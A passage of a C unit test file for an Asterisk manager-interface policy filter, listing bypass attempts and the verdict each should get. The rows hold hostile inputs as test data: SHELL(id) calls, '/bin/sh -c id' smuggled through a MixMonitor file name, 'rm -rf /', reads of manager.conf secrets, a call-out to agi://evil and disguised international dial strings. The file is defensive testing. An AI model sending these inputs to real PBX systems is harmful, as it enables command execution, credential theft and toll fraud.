/* Unit tests for src/admit/policy: every rule that looks inside an action,
 * judged on what Asterisk will act on. One table: each row is an action as
 * a route would build it, the key that sends it, and the verdict. The rows
 * are the bypasses seen against earlier versions (blanks Asterisk skips,
 * '-' it ignores, case it folds, functions it evaluates, applications that
 * dial) and their neighbours. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <string.h>

#include "admit/policy.h"

static char *allow_ch[] = {"PJSIP/1???", "Local/*@outbound", "Local/*@from-internal"};
static char *allow_ctx[] = {"from-internal", "outbound"};
static char *deny_ex[] = {"00*", "011*", "900*", "+*"};
static char *allow_apps[] = {"Playback",  "Dial",   "Queue", "RetryDial",      "Goto",
                             "Originate", "Bridge", "Park",  "ParkAndAnnounce"};
#define NAPPS (sizeof(allow_apps) / sizeof(allow_apps[0]))

static struct cfg cfg;
static char *local_ch[] = {"Local/*@from-crm"};
static char *crm_vars[] = {"CRM_*"};

/* The key with every list (a CRM's click-to-dial key). */
static struct cfg_api_key crm(void)
{
    struct cfg_api_key k;
    memset(&k, 0, sizeof(k));
    k.name = "crm";
    k.policy.allow_channels = allow_ch;
    k.policy.nallow_channels = 3;
    k.policy.allow_contexts = allow_ctx;
    k.policy.nallow_contexts = 2;
    k.policy.deny_extens = deny_ex;
    k.policy.ndeny_extens = 4;
    k.policy.allow_applications = allow_apps;
    k.policy.nallow_applications = NAPPS;
    return k;
}

/* A key with deny_extens only (any channel, any application it lists). */
static struct cfg_api_key deny_only(void)
{
    struct cfg_api_key k;
    memset(&k, 0, sizeof(k));
    k.name = "ops";
    k.policy.deny_extens = deny_ex;
    k.policy.ndeny_extens = 4;
    k.policy.allow_applications = allow_apps;
    k.policy.nallow_applications = NAPPS;
    return k;
}

enum who { OPEN, CRM, DENY_ONLY, LOCAL_ONLY, VARS };

struct row {
    const char *what;
    enum who who;
    const char *headers[16]; /* key, value, ...; "<NUL>" in a value is a NUL byte */
    enum policy_verdict verdict;
    const char *field; /* the AMI header named, for a refusal */
};

#define OK   POLICY_OK
#define INV  POLICY_INVALID
#define DEN  POLICY_DENIED
#define DIAL POLICY_DIAL
#define X10  "xxxxxxxxxx"
#define X70  X10 X10 X10 X10 X10 X10 X10
#define X250 X70 X70 X70 X10 X10 X10 X10
#define ORIG(...)                                                                                  \
    {                                                                                              \
        "Action", "Originate", __VA_ARGS__                                                         \
    }

static const struct row rows[] = {
    /* plain calls */
    {"a call inside the policy", CRM,
     ORIG("Channel", "PJSIP/1001", "Context", "from-internal", "Exten", "5551234"), OK, NULL},
    {"case of channel and context does not matter", CRM,
     ORIG("Channel", "pjsip/1001", "Context", "FROM-INTERNAL", "Exten", "5551234"), OK, NULL},
    {"open mode dials anything", OPEN,
     ORIG("Channel", "PJSIP/0044@trunk", "Context", "x", "Exten", "0044"), OK, NULL},
    /* blanks and control bytes Asterisk would skip or keep */
    {"leading space in exten", CRM,
     ORIG("Channel", "PJSIP/1001", "Context", "outbound", "Exten", " 900"), INV, "Exten"},
    {"leading tab in exten", CRM,
     ORIG("Channel", "PJSIP/1001", "Context", "outbound", "Exten", "\t0044123456"), INV, "Exten"},
    {"leading VT in exten", CRM,
     ORIG("Channel", "PJSIP/1001", "Context", "outbound", "Exten", "\v900"), INV, "Exten"},
    {"leading FF in exten", CRM,
     ORIG("Channel", "PJSIP/1001", "Context", "outbound", "Exten", "\f900"), INV, "Exten"},
    {"trailing blank in exten", CRM,
     ORIG("Channel", "PJSIP/1001", "Context", "outbound", "Exten", "900 "), INV, "Exten"},
    {"blank inside an exten", CRM,
     ORIG("Channel", "PJSIP/1001", "Context", "outbound", "Exten", "00 44"), INV, "Exten"},
    {"leading blank in channel", CRM,
     ORIG("Channel", " Local/900@outbound", "Context", "outbound", "Exten", "1"), INV, "Channel"},
    {"leading blank in context", CRM,
     ORIG("Channel", "PJSIP/1001", "Context", " outbound", "Exten", "1"), INV, "Context"},
    {"NUL in channel", CRM,
     ORIG("Channel", "PJSIP/1001<NUL>x", "Context", "outbound", "Exten", "1"), INV, "Channel"},
    {"leading blank is refused in open mode too", OPEN,
     ORIG("Channel", "PJSIP/1001", "Context", "x", "Exten", " 1"), INV, "Exten"},
    /* '-' is eye candy to the dialplan */
    {"dash after the first digit", CRM,
     ORIG("Channel", "PJSIP/1001", "Context", "outbound", "Exten", "0-044123456"), DIAL, "Exten"},
    {"dashes everywhere", CRM,
     ORIG("Channel", "PJSIP/1001", "Context", "outbound", "Exten", "9-0-0-1"), DIAL, "Exten"},
    {"a leading dash", CRM, ORIG("Channel", "PJSIP/1001", "Context", "outbound", "Exten", "-00441"),
     DIAL, "Exten"},
    {"a trunk may ignore parentheses and dots", CRM,
     ORIG("Channel", "PJSIP/1001", "Context", "outbound", "Exten", "(00)44.1"), DIAL, "Exten"},
    {"plus is denied by its own rule", CRM,
     ORIG("Channel", "PJSIP/1001", "Context", "outbound", "Exten", "+4420"), DIAL, "Exten"},
    /* Local channels dial their own extension and context */
    {"Local channel with a dash", CRM, ORIG("Channel", "Local/0-044@outbound", "Exten", "1"), DIAL,
     "Channel"},
    {"Local in lower case", CRM, ORIG("Channel", "local/0044@outbound"), DIAL, "Channel"},
    {"Local with options", CRM, ORIG("Channel", "Local/0044@outbound/n"), DIAL, "Channel"},
    {"Local with options, allowed", CRM,
     ORIG("Channel", "Local/123@outbound/n", "Context", "outbound", "Exten", "1"), OK, NULL},
    {"Local without a context goes to 'default'", DENY_ONLY,
     ORIG("Channel", "Local/123", "Context", "outbound", "Exten", "1"), OK, NULL},
    {"Local without a context, contexts limited", CRM,
     ORIG("Channel", "Local/123/n", "Context", "outbound", "Exten", "1"), DIAL, "Channel"},
    /* other channels: their number-like parts against deny_extens */
    {"a trunk number in the channel", DENY_ONLY, ORIG("Channel", "PJSIP/0044123456@trunk"), DIAL,
     "Channel"},
    {"a SIP URI in the channel", DENY_ONLY, ORIG("Channel", "PJSIP/trunk/sip:0-044123@provider"),
     DIAL, "Channel"},
    {"a DAHDI group dial", DENY_ONLY, ORIG("Channel", "DAHDI/g1/9001234"), DIAL, "Channel"},
    {"an endpoint is no number", DENY_ONLY,
     ORIG("Channel", "PJSIP/alice", "Context", "x", "Exten", "1"), OK, NULL},
    /* applications */
    {"application with a leading blank", OPEN,
     ORIG("Channel", "PJSIP/1", "Application", " MixMonitor"), INV, "Application"},
    {"application with a trailing blank", OPEN,
     ORIG("Channel", "PJSIP/1", "Application", "MixMonitor "), INV, "Application"},
    {"application with a tab", OPEN, ORIG("Channel", "PJSIP/1", "Application", "\tMixMonitor"), INV,
     "Application"},
    {"application in another case", OPEN, ORIG("Channel", "PJSIP/1", "Application", "mIxMoNiToR"),
     DEN, "Application"},
    {"System", OPEN, ORIG("Channel", "PJSIP/1", "Application", "System", "Data", "id"), DEN,
     "Application"},
    {"ExternalIVR", OPEN,
     ORIG("Channel", "PJSIP/1", "Application", "ExternalIVR", "Data", "/bin/sh"), DEN,
     "Application"},
    {"ChanSpy", OPEN, ORIG("Channel", "PJSIP/1", "Application", "ChanSpy"), DEN, "Application"},
    {"Set writes functions", OPEN, ORIG("Channel", "PJSIP/1", "Application", "Set", "Data", "A=1"),
     DEN, "Application"},
    {"an application the key does not list", CRM,
     ORIG("Channel", "PJSIP/1001", "Application", "Page", "Data", "PJSIP/1002"), DIAL,
     "Application"},
    {"an application the key lists", CRM,
     ORIG("Channel", "PJSIP/1001", "Application", "playback", "Data", "demo-congrats"), OK, NULL},
    {"Dial to a trunk escapes no more", CRM,
     ORIG("Channel", "PJSIP/1001", "Application", "Dial", "Data", "PJSIP/0044123456@trunk"), DIAL,
     "Data"},
    {"Dial to a trunk, deny list only", DENY_ONLY,
     ORIG("Channel", "PJSIP/1001", "Application", "Dial", "Data", "PJSIP/0044123456@trunk,30"),
     DIAL, "Data"},
    {"Dial of a Local channel to a denied number", CRM,
     ORIG("Channel", "PJSIP/1001", "Application", "Dial", "Data",
          "PJSIP/1002&Local/0-044@outbound"),
     DIAL, "Data"},
    {"Dial's quotes are removed by Asterisk", CRM,
     ORIG("Channel", "PJSIP/1001", "Application", "Dial", "Data", "\"Local/00\"44@outbound"), DIAL,
     "Data"},
    {"Dial's backslashes are removed by Asterisk", CRM,
     ORIG("Channel", "PJSIP/1001", "Application", "Dial", "Data", "Local/0\\044@outbound"), DIAL,
     "Data"},
    {"Dial inside the policy", CRM,
     ORIG("Channel", "PJSIP/1001", "Application", "Dial", "Data", "PJSIP/1002&PJSIP/1003,30,tT"),
     OK, NULL},
    {"Dial option F jumps elsewhere", CRM,
     ORIG("Channel", "PJSIP/1001", "Application", "Dial", "Data",
          "PJSIP/1002,30,tF(outbound^0044^1)"),
     DIAL, "Data"},
    {"Dial option U runs a subroutine", CRM,
     ORIG("Channel", "PJSIP/1001", "Application", "Dial", "Data", "PJSIP/1002,,U(outbound,0044,1)"),
     DIAL, "Data"},
    {"an option letter inside parentheses is an argument", CRM,
     ORIG("Channel", "PJSIP/1001", "Application", "Dial", "Data", "PJSIP/1002,30,m(Fancy)"), OK,
     NULL},
    {"RetryDial carries Dial's arguments", CRM,
     ORIG("Channel", "PJSIP/1001", "Application", "RetryDial", "Data", "beep,5,3,PJSIP/0044@trunk"),
     DIAL, "Data"},
    {"Goto a denied number", CRM,
     ORIG("Channel", "PJSIP/1001", "Application", "Goto", "Data", "outbound,0-044,1"), DIAL,
     "Data"},
    {"Queue with an AGI, any key", OPEN,
     ORIG("Channel", "PJSIP/1", "Application", "Queue", "Data", "sales,,,,,agi://evil/x"), DEN,
     "Data"},
    {"Queue with a gosub, dial policy", CRM,
     ORIG("Channel", "PJSIP/1001", "Application", "Queue", "Data", "sales,,,,,,outbound^0044^1"),
     DIAL, "Data"},
    {"Queue, plain", CRM, ORIG("Channel", "PJSIP/1001", "Application", "Queue", "Data", "sales,t"),
     OK, NULL},
    /* functions */
    {"SHELL in a variable value", OPEN, ORIG("Channel", "PJSIP/1", "Variable", "X=${SHELL(id)}"),
     DEN, "Variable"},
    {"shell in lower case", OPEN, ORIG("Channel", "PJSIP/1", "Variable", "X=${shell(id)}"), DEN,
     "Variable"},
    {"a blank before the parenthesis", OPEN,
     ORIG("Channel", "PJSIP/1", "Variable", "X=${SHELL (id)}"), DEN, "Variable"},
    {"AST_CONFIG reads manager.conf", OPEN,
     ORIG("Channel", "PJSIP/1", "Variable", "X=${AST_CONFIG(manager.conf,admin,secret)}"), DEN,
     "Variable"},
    {"DB writes AstDB", OPEN, ORIG("Channel", "PJSIP/1", "Variable", "DB(cf/1001)=0044"), DEN,
     "Variable"},
    {"FILE as a variable name writes a file", OPEN,
     ORIG("Channel", "PJSIP/1", "Variable", "A=1,FILE(/etc/asterisk/x.conf)=y"), DEN, "Variable"},
    {"CURL inside $[ ]", OPEN, ORIG("Channel", "PJSIP/1", "Data", "$[CURL(http://x/)]"), DEN,
     "Data"},
    {"a function not on the allow list", OPEN,
     ORIG("Channel", "PJSIP/1", "Variable", "X=${CHANNELS()}"), DEN, "Variable"},
    {"a name built at run time", OPEN, ORIG("Channel", "PJSIP/1", "Variable", "X=${S${Y}(id)}"),
     DEN, "Variable"},
    {"a name built at run time in an expression", OPEN,
     ORIG("Channel", "PJSIP/1", "Variable", "X=$[${Y}(id)]"), DEN, "Variable"},
    {"a nested call inside an allowed one", OPEN,
     ORIG("Channel", "PJSIP/1", "Variable", "X=${LEN(${ENV(HOME)})}"), DEN, "Variable"},
    {"CALLERID is allowed", OPEN,
     ORIG("Channel", "PJSIP/1", "Variable", "X=${CALLERID(num)},CALLERID(name)=Bob"), OK, NULL},
    {"parentheses outside ${} are text", OPEN,
     ORIG("Channel", "PJSIP/1", "Variable", "X=Smith (office)", "CallerID", "Bob (sales) <100>"),
     OK, NULL},
    {"Getvar of AST_CONFIG",
     OPEN,
     {"Action", "Getvar", "Variable", "AST_CONFIG(manager.conf,admin,secret)"},
     DEN,
     "Variable"},
    {"Getvar of CALLERID",
     OPEN,
     {"Action", "Getvar", "Channel", "PJSIP/1-1", "Variable", "CALLERID(num)"},
     OK,
     NULL},
    {"Status Variables",
     OPEN,
     {"Action", "Status", "Variables", "CALLERID(num),SHELL(id)"},
     DEN,
     "Variables"},
    /* moves and transfers */
    {"Redirect to a dashed number",
     CRM,
     {"Action", "Redirect", "Channel", "PJSIP/1001-1", "Context", "outbound", "Exten", "0-044",
      "Priority", "1"},
     DIAL,
     "Exten"},
    {"Redirect's extra exten with a blank",
     CRM,
     {"Action", "Redirect", "Channel", "PJSIP/1001-1", "Context", "outbound", "Exten", "1",
      "ExtraContext", "outbound", "ExtraExten", " 900"},
     INV,
     "ExtraExten"},
    {"Redirect's extra exten denied",
     CRM,
     {"Action", "Redirect", "Channel", "PJSIP/1001-1", "Context", "outbound", "Exten", "1",
      "ExtraChannel", "PJSIP/1002-1", "ExtraExten", "9-00", "ExtraContext", "outbound"},
     DIAL,
     "ExtraExten"},
    {"Redirect's extra channel to its own context",
     CRM,
     {"Action", "Redirect", "Channel", "PJSIP/1001-1", "Context", "outbound", "Exten", "1",
      "ExtraChannel", "PJSIP/1002-1", "ExtraExten", "123"},
     DIAL,
     "ExtraContext"},
    {"Redirect without a context stays in the channel's own",
     CRM,
     {"Action", "Redirect", "Channel", "PJSIP/1001-1", "Exten", "123", "Priority", "1"},
     DIAL,
     "Context"},
    /* found by review: each a bypass of the first version */
    {"MixMonitor: a comma in File moves a command into place",
     OPEN,
     {"Action", "MixMonitor", "Channel", "PJSIP/1-1", "File", "x.wav,,/bin/sh -c id"},
     DEN,
     "File"},
    {"MixMonitor: a comma in Options does too",
     OPEN,
     {"Action", "MixMonitor", "Channel", "PJSIP/1-1", "File", "x.wav", "Options",
      "b,/bin/sh -c id"},
     DEN,
     "Options"},
    {"MixMonitor: r() with a path behind a comma in File",
     OPEN,
     {"Action", "MixMonitor", "Channel", "PJSIP/1-1", "File", "x.wav,r(/var/www/x.php)"},
     DEN,
     "File"},
    {"MixMonitor: m() copies into a voicemail box",
     OPEN,
     {"Action", "MixMonitor", "Channel", "PJSIP/1-1", "File", "x.wav", "Options", "m(1234)"},
     DEN,
     "Options"},
    {"PreDialGoSub runs anywhere", CRM,
     ORIG("Channel", "PJSIP/1001", "Context", "outbound", "Exten", "123", "PreDialGoSub",
          "intl,0044123456,1"),
     DIAL, "PreDialGoSub"},
    {"a quoted '(' ends A() early, so G() is an option", CRM,
     ORIG("Channel", "PJSIP/1001", "Application", "Dial", "Data",
          "PJSIP/1002,30,A(\"(\")G(outbound^0044123456^1)"),
     DIAL, "Data"},
    {"a backslashed '(' does too", CRM,
     ORIG("Channel", "PJSIP/1001", "Application", "Dial", "Data",
          "PJSIP/1002,30,A(\\\\()G(outbound^0044123456^1)"),
     DIAL, "Data"},
    {"Queue's F() behind a quoted '('", CRM,
     ORIG("Channel", "PJSIP/1001", "Application", "Queue", "Data",
          "sales,A(\"(\")F(outbound^0044^1)"),
     DIAL, "Data"},
    {"RetryDial's U() to another context", CRM,
     ORIG("Channel", "PJSIP/1001", "Application", "RetryDial", "Data",
          "x,1,1,PJSIP/1002,30,U(dialout^0044123456)"),
     DIAL, "Data"},
    {"G() to a place inside the policy", CRM,
     ORIG("Channel", "PJSIP/1001", "Application", "Dial", "Data",
          "PJSIP/1002,30,G(outbound^5551234^1)"),
     OK, NULL},
    {"F() without a context", CRM,
     ORIG("Channel", "PJSIP/1001", "Application", "Dial", "Data", "PJSIP/1002,30,F(5551234^1)"),
     DIAL, "Data"},
    {"the context hidden in a Local channel's options", LOCAL_ONLY,
     ORIG("Channel", "Local/5551234@outbound-intl/n@from-crm"), DIAL, "Channel"},
    {"a Local channel in its context", LOCAL_ONLY, ORIG("Channel", "Local/5551234@from-crm/n"), OK,
     NULL},
    {"an empty Channel is a global Setvar",
     CRM,
     {"Action", "Setvar", "Channel", "", "Variable", "TRUNK", "Value", "00"},
     DIAL,
     "Channel"},
    {"Originate application of System", OPEN,
     ORIG("Channel", "PJSIP/1", "Application", "Originate", "Data", "PJSIP/2,app,System,id"), DEN,
     "Data"},
    {"Originate application writing FILE()", OPEN,
     ORIG("Channel", "PJSIP/1", "Application", "Originate", "Data",
          "PJSIP/2,exten,demo,100,1,,v(FILE(/etc/x)=y)"),
     DEN, "Data"},
    {"an endpoint named like a number", DENY_ONLY,
     ORIG("Channel", "PJSIP/9001", "Context", "x", "Exten", "1"), OK, NULL},
    {"a percent-encoded URI user", DENY_ONLY,
     ORIG("Channel", "PJSIP/trunk/sip:%30%30441234@provider"), DIAL, "Channel"},
    {"DAHDI dial-string letters before the number", DENY_ONLY, ORIG("Channel", "DAHDI/g1/r0044123"),
     DIAL, "Channel"},
    {"a message to a trunk number",
     CRM,
     {"Action", "MessageSend", "To", "pjsip:0044123@trunk", "From", "x", "Body", "hi"},
     DIAL,
     "To"},
    /* found by a second review */
    {"a connected-line subroutine runs anywhere", CRM,
     ORIG("Channel", "PJSIP/1001", "Context", "outbound", "Exten", "123", "Variable",
          "CONNECTED_LINE_SEND_SUB=intl,0044123456,1"),
     DIAL, "Variable"},
    {"an inherited GOSUB_RESULT", CRM,
     ORIG("Channel", "PJSIP/1001", "Context", "outbound", "Exten", "123", "Variable",
          "__GOSUB_RESULT=GOTO:intl^0044^1"),
     DIAL, "Variable"},
    {"Setvar of a redirecting subroutine",
     CRM,
     {"Action", "Setvar", "Channel", "PJSIP/1001-1", "Variable", "redirecting_send_sub", "Value",
      "intl,0044,1"},
     DIAL,
     "Variable"},
    {"a channel variable shadowing a global, outside allow_variables", VARS,
     ORIG("Channel", "PJSIP/1001", "Context", "outbound", "Exten", "123", "Variable",
          "TRUNK=PJSIP/evil"),
     DIAL, "Variable"},
    {"a variable inside allow_variables", VARS,
     ORIG("Channel", "PJSIP/1001", "Context", "outbound", "Exten", "123", "Variable", "CRM_ID=42"),
     OK, NULL},
    {"Queue's MONITOR_EXEC runs a command", OPEN,
     ORIG("Channel", "PJSIP/1", "Application", "Queue", "Data", "sales", "Variable",
          "MONITOR_EXEC=touch /tmp/x"),
     DEN, "Variable"},
    {"^{ is evaluated like ${", OPEN,
     ORIG("Channel", "PJSIP/1", "Context", "x", "Exten", "1", "Variable", "X=^{SHELL(id)}"), DEN,
     "Variable"},
    {"the Originate application's three-argument exten form", CRM,
     ORIG("Channel", "PJSIP/1001", "Application", "Originate", "Data", "PJSIP/1002,exten,intl"),
     DIAL, "Data"},
    {"MessageSend's Destination wins over To",
     CRM,
     {"Action", "MessageSend", "Destination", "pjsip:0044123456@trunk", "To", "pjsip:1002", "From",
      "x", "Body", "hi"},
     DIAL,
     "Destination"},
    {"Bridge's F() sends the bridged channel elsewhere", DENY_ONLY,
     ORIG("Channel", "PJSIP/1001", "Application", "Bridge", "Data",
          "PJSIP/1002-00000001,F(intl^0044123456^1)"),
     DIAL, "Data"},
    {"U() with arguments", CRM,
     ORIG("Channel", "PJSIP/1001", "Application", "Dial", "Data", "PJSIP/1002,,U(outbound^0044)"),
     DIAL, "Data"},
    {"U() of an allowed context", CRM,
     ORIG("Channel", "PJSIP/1001", "Application", "Dial", "Data", "PJSIP/1002,,U(outbound)"), OK,
     NULL},
    {"Dictate writes files", OPEN, ORIG("Channel", "PJSIP/1", "Application", "Dictate"), DEN,
     "Application"},
    {"free text may end with a blank", OPEN,
     ORIG("Channel", "PJSIP/1", "Context", "x", "Exten", "1", "CallerID", "Bob ", "Variable",
          "A=1 "),
     OK, NULL},
    {"BlindTransfer to a denied number",
     CRM,
     {"Action", "BlindTransfer", "Channel", "PJSIP/1001-1", "Context", "outbound", "Exten",
      "011-44"},
     DIAL,
     "Exten"},
    {"Atxfer to another context",
     CRM,
     {"Action", "Atxfer", "Channel", "PJSIP/1001-1", "Context", "admin", "Exten", "1"},
     DIAL,
     "Context"},
    /* queue members ring */
    {"a trunk as a queue member",
     CRM,
     {"Action", "QueueAdd", "Queue", "sales", "Interface", "PJSIP/0044123@trunk"},
     DIAL,
     "Interface"},
    {"a Local member that dials a denied number",
     DENY_ONLY,
     {"Action", "QueueAdd", "Queue", "sales", "Interface", "Local/0-044@outbound"},
     DIAL,
     "Interface"},
    {"an agent as a queue member",
     CRM,
     {"Action", "QueueAdd", "Queue", "sales", "Interface", "PJSIP/1002"},
     OK,
     NULL},
    /* actions with fields that run or write */
    {"MixMonitor Command",
     OPEN,
     {"Action", "MixMonitor", "Channel", "PJSIP/1-1", "File", "a.wav", "Command", "rm -rf /"},
     DEN,
     "Command"},
    {"MixMonitor File as a path",
     OPEN,
     {"Action", "MixMonitor", "Channel", "PJSIP/1-1", "File", "/etc/asterisk/manager.conf"},
     DEN,
     "File"},
    {"MixMonitor File climbing up",
     OPEN,
     {"Action", "MixMonitor", "Channel", "PJSIP/1-1", "File", "../../x.wav"},
     DEN,
     "File"},
    {"MixMonitor r() with a path",
     OPEN,
     {"Action", "MixMonitor", "Channel", "PJSIP/1-1", "File", "a.wav", "Options", "br(/tmp/x)"},
     DEN,
     "Options"},
    {"MixMonitor of a plain file",
     OPEN,
     {"Action", "MixMonitor", "Channel", "PJSIP/1-1", "File", "call-1.wav", "Options", "b"},
     OK,
     NULL},
    {"a global Setvar with a dial policy",
     CRM,
     {"Action", "Setvar", "Variable", "TRUNK", "Value", "x"},
     DIAL,
     "Channel"},
    {"a global Setvar in open mode",
     OPEN,
     {"Action", "Setvar", "Variable", "TRUNK", "Value", "x"},
     OK,
     NULL},
    /* found in the review of 2026-12-06 */
    {"a variable Park dials back when the call times out", CRM,
     ORIG("Channel", "PJSIP/1001", "Context", "from-internal", "Exten", "70", "Variable",
          "ATTENDEDTRANSFER=PJSIP/0044123456@trunk"),
     DIAL, "Variable"},
    {"the same, inherited, after another variable", CRM,
     ORIG("Channel", "PJSIP/1001", "Context", "from-internal", "Exten", "70", "Variable",
          "X=1,__BLINDTRANSFER=PJSIP/0044123456@trunk"),
     DIAL, "Variable"},
    {"the same, set on a live channel",
     DENY_ONLY,
     {"Action", "Setvar", "Channel", "PJSIP/1001-1", "Variable", "blindtransfer", "Value",
      "PJSIP/0044123456@trunk"},
     DIAL,
     "Variable"},
    {"the same in open mode", OPEN,
     ORIG("Channel", "PJSIP/1001", "Context", "x", "Exten", "70", "Variable", "BLINDTRANSFER=x"),
     OK, NULL},
    {"Park's TimeoutChannel is dialled when parking times out",
     DENY_ONLY,
     {"Action", "Park", "Channel", "PJSIP/1001-1", "TimeoutChannel", "PJSIP/0044123456@trunk-x",
      "Timeout", "1000"},
     DIAL,
     "TimeoutChannel"},
    {"and Channel2 when TimeoutChannel is empty",
     DENY_ONLY,
     {"Action", "Park", "Channel", "PJSIP/1001-1", "TimeoutChannel", "", "Channel2",
      "PJSIP/0044123456@trunk-x"},
     DIAL,
     "Channel2"},
    {"Park back to an allowed phone, by its channel name",
     CRM,
     {"Action", "Park", "Channel", "PJSIP/1002-3", "TimeoutChannel", "PJSIP/1001-00000005"},
     OK,
     NULL},
    {"Park's TimeoutChannel is Dial's data: its options",
     DENY_ONLY,
     {"Action", "Park", "Channel", "PJSIP/1001-1", "TimeoutChannel",
      "PJSIP/1001,,B(intl^0044123456^1)"},
     DIAL,
     "TimeoutChannel"},
    {"and a device list",
     DENY_ONLY,
     {"Action", "Park", "Channel", "PJSIP/1001-1", "TimeoutChannel",
      "PJSIP/1001&PJSIP/0044123456@trunk"},
     DIAL,
     "TimeoutChannel"},
    {"and variables it expands when it runs",
     CRM,
     {"Action", "Park", "Channel", "PJSIP/1001-1", "TimeoutChannel",
      "Local/${CALLERID(num)}@outbound"},
     DIAL,
     "TimeoutChannel"},
    {"a TimeoutChannel longer than Asterisk keeps to dial back",
     DENY_ONLY,
     {"Action", "Park", "Channel", "PJSIP/1001-1", "TimeoutChannel", "PJSIP/" X70},
     INV,
     "TimeoutChannel"},
    {"ParkAndAnnounce's comeback place", CRM,
     ORIG("Channel", "PJSIP/1001", "Application", "ParkAndAnnounce", "Data",
          "default,c(intl,0044,1),PARKED,PJSIP/1002"),
     DIAL, "Data"},
    {"ParkAndAnnounce's announcing channel", CRM,
     ORIG("Channel", "PJSIP/1001", "Application", "ParkAndAnnounce", "Data",
          "default,,PARKED,PJSIP/0044123456@trunk"),
     DIAL, "Data"},
    {"ParkAndAnnounce without a channel", CRM,
     ORIG("Channel", "PJSIP/1001", "Application", "ParkAndAnnounce", "Data", "default,,PARKED"),
     DIAL, "Data"},
    {"ParkAndAnnounce inside the policy", CRM,
     ORIG("Channel", "PJSIP/1001", "Application", "ParkAndAnnounce", "Data",
          "default,,PARKED,PJSIP/1002"),
     OK, NULL},
    {"Park back anywhere in open mode",
     OPEN,
     {"Action", "Park", "Channel", "PJSIP/1001-1", "TimeoutChannel", "PJSIP/0044@trunk-x"},
     OK,
     NULL},
    {"the Park application's comeback place", CRM,
     ORIG("Channel", "PJSIP/1001", "Application", "Park", "Data", "default,c(outbound,0044,1)"),
     DIAL, "Data"},
    {"the Park application's comeback place, allowed", CRM,
     ORIG("Channel", "PJSIP/1001", "Application", "Park", "Data", "default,c(outbound,123,1)"), OK,
     NULL},
    {"a backslash the channel driver takes out", DENY_ONLY,
     ORIG("Channel", "PJSIP/0\\044123456@trunk", "Context", "x", "Exten", "1"), DIAL, "Channel"},
    {"quotes the channel driver takes out", DENY_ONLY,
     ORIG("Channel", "PJSIP/0\"\"044123456@trunk", "Context", "x", "Exten", "1"), DIAL, "Channel"},
    {"a backslash in Dial's device, past Dial's own unescaping", DENY_ONLY,
     ORIG("Channel", "PJSIP/alice", "Application", "Dial", "Data", "PJSIP/0\\\\044123456@trunk"),
     DIAL, "Data"},
    {"a backslash in a queue member's interface",
     DENY_ONLY,
     {"Action", "QueueAdd", "Queue", "sales", "Interface", "PJSIP/0\\044123@trunk"},
     DIAL,
     "Interface"},
    {"a backslash in an extension", CRM,
     ORIG("Channel", "PJSIP/1001", "Context", "outbound", "Exten", "0\\044"), DIAL, "Exten"},
    {"a backslash in open mode", OPEN, ORIG("Channel", "PJSIP/0\\044@trunk"), OK, NULL},
    {"a channel longer than Asterisk reads: the rest would be cut", OPEN,
     ORIG("Channel", "Local/555/" X250 "@outbound/n", "Context", "x", "Exten", "1"), INV,
     "Channel"},
    {"a queue member's interface longer than Asterisk keeps",
     OPEN,
     {"Action", "QueueAdd", "Queue", "sales", "Interface", "Local/555/" X70 "@outbound/n"},
     INV,
     "Interface"},
    {"and its StateInterface",
     OPEN,
     {"Action", "QueueAdd", "Queue", "sales", "Interface", "PJSIP/1002", "StateInterface",
      "Custom:" X70 X10},
     INV,
     "StateInterface"},
    {"an interface of 79 bytes is kept whole",
     OPEN,
     {"Action", "QueueAdd", "Queue", "sales", "Interface", "Local/5@" X70 "x"},
     OK,
     NULL},
};

static struct ami_msg *build(const struct row *row)
{
    struct ami_msg *m = ami_msg_new();
    for (size_t i = 0; i + 1 < 16 && row->headers[i]; i += 2) {
        const char *v = row->headers[i + 1];
        const char *nul = strstr(v, "<NUL>");
        if (nul) { /* "a<NUL>b": the bytes a, NUL, b */
            char buf[256];
            size_t pre = (size_t)(nul - v);
            memcpy(buf, v, pre);
            buf[pre] = '\0';
            size_t rest = strlen(nul + 5);
            memcpy(buf + pre + 1, nul + 5, rest);
            ami_msg_addn(m, row->headers[i], strlen(row->headers[i]), buf, pre + 1 + rest);
        } else {
            ami_msg_add(m, row->headers[i], v);
        }
    }
    return m;
}

static void every_row_gets_its_verdict(void **state)
{
    (void)state;
    struct cfg_api_key k_crm = crm(), k_deny = deny_only();
    int failures = 0;
    for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
        const struct row *row = &rows[i];
        struct cfg_api_key k_local;
        memset(&k_local, 0, sizeof(k_local));
        k_local.name = "local";
        k_local.policy.allow_channels = local_ch;
        k_local.policy.nallow_channels = 1;
        struct cfg_api_key k_vars;
        memset(&k_vars, 0, sizeof(k_vars));
        k_vars.name = "vars";
        k_vars.policy.allow_variables = crm_vars;
        k_vars.policy.nallow_variables = 1;
        const struct cfg_api_key *k = row->who == CRM          ? &k_crm
                                      : row->who == DENY_ONLY  ? &k_deny
                                      : row->who == LOCAL_ONLY ? &k_local
                                      : row->who == VARS       ? &k_vars
                                                               : NULL;
        struct ami_msg *m = build(row);
        struct policy_refusal out = {.field = ""};
        enum policy_verdict v = policy_action(&cfg, k, m, &out);
        ami_msg_free(m);
        int bad = v != row->verdict || (row->field && strcmp(out.field, row->field));
        if (bad) {
            print_error("row %zu '%s': verdict %d field '%s' (%s; rule '%s'), expected %d '%s'\n",
                        i, row->what, v, out.field, out.detail, out.rule, row->verdict,
                        row->field ? row->field : "");
            failures++;
        }
        if (v != POLICY_OK)
            assert_true(out.detail[0] != '\0'); /* every refusal says why */
    }
    assert_int_equal(failures, 0);
}

static void has_rules_follows_the_lists(void **state)
{
    (void)state;
    struct cfg_api_key k = crm(), none;
    memset(&none, 0, sizeof(none));
    assert_true(policy_has_rules(&k));
    assert_false(policy_has_rules(&none));
    assert_false(policy_has_rules(NULL));
    none.policy.allow_applications = allow_apps;
    none.policy.nallow_applications = 1;
    assert_true(policy_has_rules(&none)); /* allow_applications alone is a policy */
}

static void refusals_name_the_rule(void **state)
{
    (void)state;
    struct cfg_api_key k = crm();
    struct ami_msg *m = ami_msg_new();
    ami_msg_add(m, "Action", "Originate");
    ami_msg_add(m, "Channel", "PJSIP/1001");
    ami_msg_add(m, "Context", "outbound");
    ami_msg_add(m, "Exten", "0-0441");
    struct policy_refusal out = {.field = ""};
    assert_int_equal(policy_action(&cfg, &k, m, &out), POLICY_DIAL);
    assert_string_equal(out.rule, "deny_extens: 00*");
    assert_non_null(strstr(out.detail, "0-0441")); /* what the client sent */
    ami_msg_free(m);
}

static int setup(void **state)
{
    (void)state;
